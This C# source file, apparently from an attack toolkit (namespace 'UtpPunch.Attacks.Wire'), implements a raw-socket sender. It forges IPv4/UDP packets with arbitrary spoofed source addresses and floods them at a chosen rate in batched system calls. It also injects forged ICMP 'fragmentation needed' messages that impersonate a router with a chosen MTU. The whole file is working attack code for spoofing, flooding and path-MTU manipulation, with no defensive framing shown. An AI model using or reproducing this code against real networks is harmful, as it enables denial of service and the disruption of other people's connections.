using System.Buffers.Binary;
using System.Diagnostics;
using System.Runtime.InteropServices;

namespace UtpPunch.Attacks.Wire;

/// <summary>Writes the payload of one packet, and names its source; the length.</summary>
internal delegate int Forge(long number, Span<byte> payload, out Address source, out Address target);

/// <summary>
/// Sends IPv4 packets with any source address, in batches of one system call. Not for several threads at once. The kernel fills in the
/// length and the checksum of the IP header; UDP over IPv4 may go without one.
/// </summary>
internal sealed unsafe class RawSender : IDisposable
{
    /// <summary>The headers of IPv4 and UDP.</summary>
    public const int Headers = 28;

    private const int Batch = 64;
    private const byte IcmpProtocol = 1;

    private readonly int _descriptor;
    private readonly int _slot;
    private readonly byte* _bytes;
    private readonly Kernel.Message* _messages;
    private readonly Kernel.Vector* _vectors;
    private readonly Kernel.SocketAddress* _names;
    private int _count;

    /// <param name="descriptor">A raw socket.</param>
    /// <param name="largest">The length of the largest payload.</param>
    public RawSender(int descriptor, int largest = 256)
    {
        _descriptor = descriptor;
        _slot = largest + Headers;
        _bytes = (byte*)NativeMemory.AllocZeroed((nuint)(Batch * _slot));
        _messages = (Kernel.Message*)NativeMemory.AllocZeroed(Batch, (nuint)sizeof(Kernel.Message));
        _vectors = (Kernel.Vector*)NativeMemory.AllocZeroed(Batch, (nuint)sizeof(Kernel.Vector));
        _names = (Kernel.SocketAddress*)NativeMemory.AllocZeroed(Batch, (nuint)sizeof(Kernel.SocketAddress));
        for (var i = 0; i < Batch; i++)
        {
            _vectors[i].Start = _bytes + (i * _slot);
            _names[i].Family = Kernel.Internet;
            _messages[i] = new() { Name = _names + i, NameLength = 16, Vectors = _vectors + i, VectorCount = 1 };
        }
    }

    /// <summary>Packets and bytes, IP headers included, that the kernel took.</summary>
    public long Sent { get; private set; }

    public long Bytes { get; private set; }

    public void Dispose()
    {
        NativeMemory.Free(_bytes);
        NativeMemory.Free(_messages);
        NativeMemory.Free(_vectors);
        NativeMemory.Free(_names);
        _ = Kernel.Close(_descriptor);
    }

    /// <summary>Sends packets at a rate, until the number is reached or the token is cancelled.</summary>
    public void Flood(double perSecond, long count, Forge forge, CancellationToken cancellationToken)
    {
        var clock = Stopwatch.StartNew();
        for (long number = 0; number < count && !cancellationToken.IsCancellationRequested;)
        {
            var due = Math.Min(count, (long)(clock.Elapsed.TotalSeconds * perSecond) + 1);
            while (number < due)
            {
                Add(number++, forge);
            }

            Flush();
            if (number < count)
            {
                Thread.Sleep(1);
            }
        }
    }

    /// <summary>Queues one UDP packet; a full batch is sent.</summary>
    public void Add(long number, Forge forge)
    {
        var packet = Next();
        var length = forge(number, packet[Headers..], out var source, out var target);
        Udp(packet, source, target, length);
        Commit(target, Headers + length);
    }

    /// <summary>Sends one UDP packet at once.</summary>
    public void Send(Address source, Address target, ReadOnlySpan<byte> payload)
    {
        var packet = Next();
        payload.CopyTo(packet[Headers..]);
        Udp(packet, source, target, payload.Length);
        Commit(target, Headers + payload.Length);
        Flush();
    }

    /// <summary>
    /// Queues an ICMP message "fragmentation needed" (RFC 792, 1191) of a router about a UDP packet from the target to an address.
    /// </summary>
    public void AddTooLarge(Address router, Address target, Address quoted, ushort mtu)
    {
        const int QuotedAt = 28;
        var packet = Next();
        packet[..(QuotedAt + Headers)].Clear();
        Ipv4(packet, IcmpProtocol, router.Ip, target.Ip, QuotedAt + Headers);
        packet[20] = 3;
        packet[21] = 4;
        BinaryPrimitives.WriteUInt16BigEndian(packet[26..], mtu);
        Udp(packet[QuotedAt..], target, quoted, 1200);
        BinaryPrimitives.WriteUInt16BigEndian(packet[22..], Checksum(packet[20..(QuotedAt + Headers)]));
        Commit(target, QuotedAt + Headers);
    }

    /// <summary>Sends what is queued. Packets that the kernel does not take are lost.</summary>
    public void Flush()
    {
        for (var done = 0; done < _count;)
        {
            var sent = Kernel.Send(_descriptor, _messages + done, _count - done);
            for (var i = done; i < done + sent; i++)
            {
                Sent++;
                Bytes += (long)_vectors[i].Length;
            }

            done += Math.Max(1, sent);
        }

        _count = 0;
    }

    private Span<byte> Next() => new(_bytes + (_count * _slot), _slot);

    private void Commit(Address target, int length)
    {
        _vectors[_count].Length = (nuint)length;
        _names[_count].Address = BinaryPrimitives.ReverseEndianness(target.Ip);
        if (++_count == Batch)
        {
            Flush();
        }
    }

    private static void Udp(Span<byte> packet, Address source, Address target, int length)
    {
        Ipv4(packet, Kernel.Udp, source.Ip, target.Ip, Headers + length);
        BinaryPrimitives.WriteUInt16BigEndian(packet[20..], source.Port);
        BinaryPrimitives.WriteUInt16BigEndian(packet[22..], target.Port);
        BinaryPrimitives.WriteUInt16BigEndian(packet[24..], (ushort)(8 + length));
        packet[26..28].Clear();
    }

    private static void Ipv4(Span<byte> packet, byte protocol, uint source, uint target, int length)
    {
        packet[..20].Clear();
        packet[0] = 0x45;
        BinaryPrimitives.WriteUInt16BigEndian(packet[2..], (ushort)length);
        packet[8] = 64;
        packet[9] = protocol;
        BinaryPrimitives.WriteUInt32BigEndian(packet[12..], source);
        BinaryPrimitives.WriteUInt32BigEndian(packet[16..], target);
        BinaryPrimitives.WriteUInt16BigEndian(packet[10..], Checksum(packet[..20]));
    }

    private static ushort Checksum(ReadOnlySpan<byte> bytes)
    {
        var sum = 0u;
        for (var i = 0; i < bytes.Length; i += 2)
        {
            sum += BinaryPrimitives.ReadUInt16BigEndian(bytes[i..]);
        }

        sum = (sum & 0xFFFF) + (sum >> 16);
        return (ushort)~((sum & 0xFFFF) + (sum >> 16));
    }
}
